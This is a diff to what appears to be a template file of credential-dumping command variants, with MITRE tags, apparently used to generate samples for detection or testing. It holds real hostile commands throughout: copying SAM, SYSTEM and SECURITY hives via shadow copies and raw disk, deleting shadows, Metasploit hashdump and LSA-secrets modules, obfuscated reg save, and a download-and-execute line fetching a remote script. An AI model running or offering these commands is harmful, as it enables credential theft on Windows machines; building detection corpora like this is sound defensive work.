@@ -92,8 +92,8 @@ mh-vss-symlink cmd: mklink /«D¦J» C:\‹name› ‹vss›\ & robocopy C:\‹n
 mh-vss-newest cmd: for /f "tokens=4" %v in ('vssadmin list shadows ^| findstr /i HarddiskVolumeShadowCopy') do copy %v\Windows\System32\config\SAM ‹dir›\‹name›
 mh-vss-delete cmd: copy ‹vss›\windows\system32\config\«sam¦system» ‹dir› & vssadmin delete shadows /shadow=‹guid› /quiet
 mh-vss-vshadow cmd: vshadow.exe -nw -exec=‹dir›\‹name›.cmd C: & type ‹vss›\Windows\System32\config\SAM > ‹dir›\‹name›
-mh-vss-vshadow-expose cmd: vshadow.exe -p C: && vshadow -el=‹guid›,«X¦Y»: && copy «X¦Y»:\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
-mh-vss-diskshadow-script text: set context persistent nowriters; add volume c: alias ‹word›; create; expose %‹word›% z:; exec "cmd.exe" /c copy z:\windows\system32\config\«sam¦system» c:\temp\‹name›
+mh-vss-vshadow-expose cmd: vshadow.exe -p C: && vshadow -el=‹guid›,«X: && copy X¦Y: && copy Y»:\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
+mh-vss-diskshadow-script text: set context persistent nowriters; add volume c: alias cdrive; create; expose %cdrive% z:; exec "cmd.exe" /c copy z:\windows\system32\config\«sam¦system» c:\temp\‹name›
 mh-vss-cim powershell: $s = Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume='C:\'}; $d = (Get-CimInstance Win32_ShadowCopy | ? ID -eq $s.ShadowID).DeviceObject; cmd /c copy "$d\Windows\System32\config\«SAM¦SYSTEM»" ‹dir›
 mh-vss-net-shadow powershell: $d = (gwmi Win32_ShadowCopy | select -Last 1).DeviceObject; [IO.File]::WriteAllBytes("$env:TEMP\‹name›", [IO.File]::ReadAllBytes("$d\Windows\System32\config\SAM"))
 mh-vss-remote-wmi powershell: $w = [wmiclass]"\\‹server›\root\cimv2:Win32_ShadowCopy"; $w.Create("C:\","ClientAccessible"); Copy-Item "\\‹server›\C$\@GMT-2024.«03¦07¦11».01-10.00.00\Windows\System32\config\SAM" ‹dir›
@@ -138,7 +138,7 @@ mh-samrpc text: SamConnect(&srv, &h, MAXIMUM_ALLOWED); SamOpenDomain(...); SamOp
 mh-samsrv-inject text: hash dump: injected thread into lsass.exe, LoadLibrary("samsrv.dll") SamIConnect SamrOpenDomain SamIGetPrivateData SamrQueryInformationUser «fgexec¦pwdump¦‹name›»
 mh-rawdisk-ps powershell: $fs = New-Object IO.FileStream('\\.\«C:¦PhysicalDrive0»','Open','Read','ReadWrite'); # parse NTFS $MFT and carve Windows\System32\config\«SAM¦SYSTEM» to ‹dir›
 mh-rawdisk-py text: fs = pytsk3.FS_Info(pytsk3.Img_Info(r"\\.\«C:¦PhysicalDrive0»")); f = fs.open("/Windows/System32/config/«SAM¦SYSTEM»"); open("‹name›", "wb").write(f.read_random(0, f.info.meta.size))
-mh-rawdisk-powerforensics powershell: «Copy-ForensicFile¦Invoke-ForensicDD» -Path C:\Windows\System32\config\«SAM¦SYSTEM» -Destination ‹file›
+mh-rawdisk-powerforensics powershell: Copy-ForensicFile -Path C:\Windows\System32\config\«SAM¦SYSTEM» -Destination ‹file›
 mh-rawdisk-forensic-content powershell: Get-ForensicFileRecord -Path C:\Windows\System32\config\SAM | % { $_.CopyFile('‹dir›\‹name›') }
 mh-rawdisk-ninja powershell: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Invoke-NinjaCopy.ps1'); Invoke-NinjaCopy -Path C:\Windows\System32\config\«SAM¦SYSTEM» -LocalDestination ‹dir›\‹name›
 mh-rawdisk-tsk bash: «ifind -n 'Windows/System32/config/SAM' ‹lfile› | xargs icat ‹lfile› > ‹name›¦icat -o 206848 ‹lfile› ‹pid›-128-1 > SAM¦fcat Windows/System32/config/SAM ‹lfile› > SAM¦tsk_recover -a ‹lfile› out && cp out/Windows/System32/config/SAM .»
@@ -248,7 +248,8 @@ mh-msf-action-lsa bash +T1003.004: msfconsole -qx "use gather/windows_secrets_du
 mh-msf-post-reg text: meterpreter > «reg save -k 'HKLM\SAM'¦execute -H -f reg.exe -a "save HKLM\SAM C:\\Windows\\Temp\\‹name›"¦download C:\\Windows\\Temp\\sam.hiv /root/loot¦run post/windows/manage/vss_mount; download config\\SAM»
 mh-msf-loot text: [*] Obtaining the boot key... [*] Calculating the hboot key using SYSKEY ‹hash›... [*] Obtaining the user list and keys... [*] Decrypting user keys... [*] Dumping password hint«s¦s (SAM)»
 mh-msf-loot-lsa text +T1003.004: [*] Executing module against ‹server› [*] Obtaining LSA key... [*] Vista or above system [+] Key: «DefaultPassword¦_SC_‹name›» Username: ‹user› Decrypted Value: ‹pass›
-mh-msf-rpc text: client.modules.use('post', 'windows/gather/«hashdump¦smart_hashdump¦lsa_secrets»'); m['SESSION'] = ‹n›; m.execute()
+mh-msf-rpc text: client.modules.use('post', 'windows/gather/«hashdump¦smart_hashdump»'); m['SESSION'] = ‹n›; m.execute()
+mh-msf-rpc-secrets text +T1003.004: client.modules.use('post', 'windows/gather/lsa_secrets'); m['SESSION'] = ‹n›; m.execute()
 mh-metasploit-json text: {"type": "post", "module": "windows/gather/«hashdump¦smart_hashdump»", "session": ‹n›, "user": "NT AUTHORITY\\SYSTEM", "host": "‹ip›"}
 mh-ps-obf powershell: «&('re'+'g') ('sa'+'ve') ('HKLM\S'+'AM') ‹file›¦& (gcm r?g.exe) save ("HK"+"LM\sa"+"m") ‹file›¦$r='reg';$k='HKLM\SYS'+'TEM'; & $r save $k ‹file›¦iex ('reg save {0}\{1} C:\‹name›' -f 'HKLM','SAM')»
 mh-ps-job powershell: «Start-Job { reg save HKLM\SAM $env:TEMP\‹name› }¦Register-ScheduledJob -Name ‹name› -ScriptBlock { reg save HKLM\SYSTEM C:\‹name› /y } -RunNow¦Start-ThreadJob { & reg.exe save HKLM\SAM C:\Users\Public\‹name› }»
@@ -310,7 +311,7 @@ mh-event-4663-security text +T1003.004: EventID 4663 ObjectType Key ObjectName \
 mh-event-kernel16 text: Microsoft-Windows-Kernel-General 16 The access history in hive «\??\C:\Windows\Temp\sam.hiv¦\??\C:\Users\‹user›\AppData\Local\Temp\SAM¦\??\C:\Temp\sam.save» was cleared updating ‹n› keys and creating ‹n› modified pages.
 mh-esentutl-log cmd: esentutl.exe /y /vss «C:\Windows\System32\config\SAM /d C:\Users\Public\‹name›.log¦c:\windows\system32\config\SYSTEM /d ‹file› /o»
 mh-esentutl-vss-security cmd +T1003.004: esentutl.exe /y /vss ‹config›\SECURITY /d «C:\Users\Public\‹name›.log¦‹file›»
-mh-extrac cmd: «extrac32.exe /C /Y¦expand.exe¦print /D:‹dir›\‹name›¦findstr /V /L ‹hash›¦replace.exe» ‹vss›\Windows\System32\config\SAM ‹dir›\‹name›
+mh-extrac cmd: ««extrac32.exe /C /Y¦expand.exe» ‹vss›\Windows\System32\config\SAM ‹dir›\‹name›¦print /D:‹dir›\‹name› ‹vss›\Windows\System32\config\SAM¦replace.exe ‹vss›\Windows\System32\config\SAM ‹dir› /A¦findstr /V /L ‹hash› ‹vss›\Windows\System32\config\SAM > ‹dir›\‹name›»
 mh-wbadmin-recover cmd: wbadmin start «recovery -version:«03¦05¦10»/01/2024-10:00 -itemtype:file -items:C:\Windows\System32\config\SAM,C:\Windows\System32\config\SYSTEM -recoverytarget:‹dir› -notrestoreacl -quiet¦backup -backuptarget:\\‹server›\‹name› -include:C:\Windows\System32\config\SAM,C:\Windows\System32\config\SYSTEM -quiet»
 mh-veeam-restore text: Veeam «Explorer file-level restore¦Windows FLR»: user ‹user› copied C:\Windows\System32\config\«SAM¦SYSTEM» from backup of ‹server› to ‹dir›
 mh-veeam-flr powershell: Start-VBRWindowsFileRestore -RestorePoint $rp; Copy-Item C:\VeeamFLR\‹server›_‹hash›\Volume«1¦2»\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
